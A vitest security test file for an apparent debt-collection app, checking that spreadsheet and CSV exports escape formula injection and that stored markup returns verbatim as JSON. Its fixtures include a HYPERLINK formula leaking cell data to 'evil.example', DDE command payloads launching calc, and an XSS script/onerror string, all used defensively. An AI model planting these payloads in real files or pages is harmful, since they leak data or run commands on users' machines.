import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { contactAttempts, type DebtAccountRow } from '../../src/db/schema';
import { ROUTE_ACCESS } from '../../src/route-access';
import { buildTestApp, type TestApp } from '../build-test-app';
import { createUser, signIn } from '../factories';
import { insertAccount } from '../kits/accounts/account-fixtures';
import { importForm } from '../kits/accounts-import/import-test-kit';
import { type SweepLine, writeSweepEvidence } from './security-evidence';

/**
 * Output sweep. Every file export (accounts .xlsx, compliance .csv/.xlsx, import errors .csv) is
 * read back with the csv/xlsx libraries: no cell may start with = + - @ (or tab/CR), and the hostile
 * values stored in the data come back with a leading apostrophe. Stored text comes back verbatim in
 * JSON, and no API route answers text/html (the browser check of rendering is in e2e/).
 */

const FORMULAS = {
  fullName: '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  address1: '+cmd|" /C calc"!A0',
  city: '-2+3',
  emailAddress: '@SUM(1+1)*cmd|" /C calc"!A0',
  address2: '\t=1+1',
} as const;
/**
 * API routes that answer a page on purpose, and why no stored user text reaches it. None now: the
 * e-mail unsubscribe page is the web app's (decision 0032).
 */
const HTML_PAGES: Record<string, string> = {};
const FORMULA_START = /^[=+\-@\t\r]/;
const HOSTILE_TEXT = '<script>alert("x")</script><img src=x onerror=alert(1)> & "quotes" \'single\'';

let t: TestApp;
let admin: string;
let account: DebtAccountRow;
const evidence: SweepLine[] = [];

beforeAll(async () => {
  t = await buildTestApp();
  await createUser(t.deps.db, { username: 'exports-admin', role: 'admin' });
  admin = await signIn(t.app, 'exports-admin');
  account = await insertAccount(t.deps.db, t.deps.encryption, {
    accountNumber: 'SEC-FORMULA-1',
    ...FORMULAS,
  });
});
afterAll(async () => {
  if (evidence.length) writeSweepEvidence('input-exports', 'exports and stored text', evidence);
  await t?.close();
});

const get = (url: string, cookie = admin) => t.app.inject({ url, headers: { cookie } });

async function xlsxCells(content: Buffer): Promise<string[][]> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(content as unknown as ArrayBuffer);
  const rows: string[][] = [];
  workbook.eachSheet((sheet) => {
    sheet.eachRow((row) => {
      const cells: string[] = [];
      row.eachCell((cell) => {
        // A formula cell would carry { formula }; a text cell is a plain string.
        expect(cell.formula ?? null, `formula cell in ${sheet.name}`).toBeNull();
        cells.push(typeof cell.value === 'string' ? cell.value : String(cell.text ?? ''));
      });
      rows.push(cells);
    });
  });
  return rows;
}

const csvCells = (text: string): string[][] => parse(text, { relax_column_count: true, bom: true });

/** No cell starts like a formula; each hostile value we planted is there, escaped. */
function expectEscaped(name: string, rows: string[][], planted: string[]): number {
  const cells = rows.flat();
  for (const cell of cells) expect(cell, `${name}: ${JSON.stringify(cell)}`).not.toMatch(FORMULA_START);
  for (const value of planted) expect(cells, `${name}: ${JSON.stringify(value)}`).toContain(`'${value}`);
  evidence.push({
    area: `${name}: cells read back`,
    cases: cells.length,
    result: `none starts with = + - @ tab CR; ${planted.length} planted formulas come back with a leading '`,
  });
  return cells.length;
}

describe('exports escape formulas', () => {
  it('accounts export (.xlsx)', async () => {
    const res = await get('/api/admin/export-excel');
    expect(res.statusCode).toBe(200);
    expectEscaped('Accounts export .xlsx', await xlsxCells(res.rawPayload), Object.values(FORMULAS));
  });

  it.each(['csv', 'xlsx'])('compliance export (.%s)', async (format) => {
    await t.deps.db.insert(contactAttempts).values({
      debtAccountId: account.id,
      channel: 'email',
      target: FORMULAS.emailAddress,
      allowed: false,
      rule: 'cease',
      message: '=2+5',
      evaluation: {},
      createdAt: new Date(t.clock.now()),
    });
    const res = await get(`/api/admin/compliance/export?format=${format}&from=2026-03-01&to=2026-03-03`);
    expect(res.statusCode, res.body).toBe(200);
    const rows = format === 'csv' ? csvCells(res.body) : await xlsxCells(res.rawPayload);
    expectEscaped(`Compliance export .${format}`, rows, [FORMULAS.fullName, FORMULAS.emailAddress, '=2+5']);
  });

  it('import errors (.csv)', async () => {
    const csv = [
      'account_number,debtor_name,unpaid_balance,date_of_service',
      `=HYPERLINK("x"),=1+1,@SUM(1),+1-1`,
      `SEC-ERR-2,-bad,=9,=DATE(1)`,
    ].join('\r\n');
    const body = importForm({ importType: 'accounts' }, { name: 'bad.csv', content: csv });
    const imported = await t.app.inject({
      method: 'POST',
      url: '/api/admin/import',
      payload: body.payload,
      headers: { ...body.headers, cookie: admin },
    });
    expect(imported.statusCode, imported.body).toBe(200);
    expect(imported.json().errors).toBeGreaterThan(0);
    const res = await get(`/api/admin/import/${imported.json().uploadId}/errors.csv`);
    expect(res.statusCode).toBe(200);
    expectEscaped('Import errors .csv', csvCells(res.body), []);
  });

  it("a print batch's manifest for the mail vendor (.csv)", async () => {
    const made = await t.app.inject({
      method: 'POST',
      url: `/api/debtors/${account.id}/letters`,
      headers: { cookie: admin },
      payload: { template: 'validation_notice', language: 'en', delivery: 'print' },
    });
    expect(made.statusCode, made.body).toBe(201);
    const batch = await t.app.inject({
      method: 'POST',
      url: '/api/admin/letters/batches',
      headers: { cookie: admin },
    });
    expect(batch.statusCode, batch.body).toBe(201);
    const res = await get(`/api/admin/letters/batches/${batch.json().id}/manifest.csv`);
    expect(res.statusCode).toBe(200);
    expectEscaped('Print batch manifest .csv', csvCells(res.body), [FORMULAS.fullName, FORMULAS.address1]);
  });

  it('the route table has no other file export to sweep', () => {
    const exports = Object.keys(ROUTE_ACCESS).filter((k) => /export|\.csv|excel/i.test(k));
    expect(exports.sort()).toEqual([
      'GET /api/admin/compliance/export',
      'GET /api/admin/export-excel',
      'GET /api/admin/import/:uploadId/errors.csv',
      'GET /api/admin/letters/batches/:id/manifest.csv',
    ]);
  });
});

describe('stored text comes back as text', () => {
  it('a note and a dispute with markup come back verbatim in JSON', async () => {
    const note = await t.app.inject({
      method: 'POST',
      url: `/api/debtors/${account.id}/notes`,
      headers: { cookie: admin },
      payload: { body: HOSTILE_TEXT },
    });
    expect(note.statusCode, note.body).toBeLessThan(300);
    const contacts = await get(`/api/debtors/${account.id}/contacts`);
    expect(contacts.headers['content-type']).toMatch(/^application\/json/);
    expect(JSON.stringify(contacts.json())).toContain(JSON.stringify(HOSTILE_TEXT).slice(1, -1));

    const debtor = await createUser(t.deps.db, { role: 'debtor' });
    const own = await insertAccount(t.deps.db, t.deps.encryption, { userId: debtor.id });
    const cookie = await signIn(t.app, debtor.username);
    const filed = await t.app.inject({
      method: 'POST',
      url: '/api/customer/disputes',
      headers: { cookie },
      payload: {
        account_id: own.id,
        dispute_type: 'not_my_debt',
        dispute_reason: HOSTILE_TEXT,
        requested_action: 'Validate <b>this</b>',
      },
    });
    expect(filed.statusCode, filed.body).toBe(201);
    const listed = await get('/api/customer/disputes', cookie);
    expect(listed.headers['content-type']).toMatch(/^application\/json/);
    expect(listed.json()[0]).toMatchObject({
      disputeReason: HOSTILE_TEXT,
      requestedAction: 'Validate <b>this</b>',
    });
    evidence.push({
      area: 'Markup in a note and a dispute, read back',
      cases: 2,
      result: 'verbatim in application/json',
    });
  });

  it('no GET route of the table answers HTML (or XML/SVG a browser would run); every answer says nosniff', async () => {
    const ids: Record<string, string> = {
      id: String(account.id),
      debtorId: String(account.id),
      accountId: String(account.id),
    };
    const gets = Object.keys(ROUTE_ACCESS).filter((k) => k.startsWith('GET ') && !k.includes('/api/bench/'));
    const seen: Record<string, number> = {};
    for (const key of gets) {
      const url = key.slice(4).replace(/:([a-zA-Z]+)/g, (_, p: string) => ids[p] ?? '1');
      const res = await get(url);
      const type = String(res.headers['content-type'] ?? '(none)').split(';')[0];
      if (HTML_PAGES[key]) {
        expect(res.body).not.toContain('<script');
      } else {
        expect(type, `${key} answered ${type}`).not.toMatch(
          /^(text\/html|application\/xhtml|image\/svg|text\/xml|application\/xml)/,
        );
      }
      expect(res.headers['x-content-type-options'], key).toBe('nosniff');
      seen[type] = (seen[type] ?? 0) + 1;
    }
    evidence.push({
      area: 'GET routes of the table, as admin',
      cases: gets.length,
      result: `no HTML but the unsubscribe page (fixed texts, escaped); nosniff on all (${Object.entries(seen)
        .map(([k, v]) => `${v} ${k}`)
        .join(', ')})`,
    });
  });
});
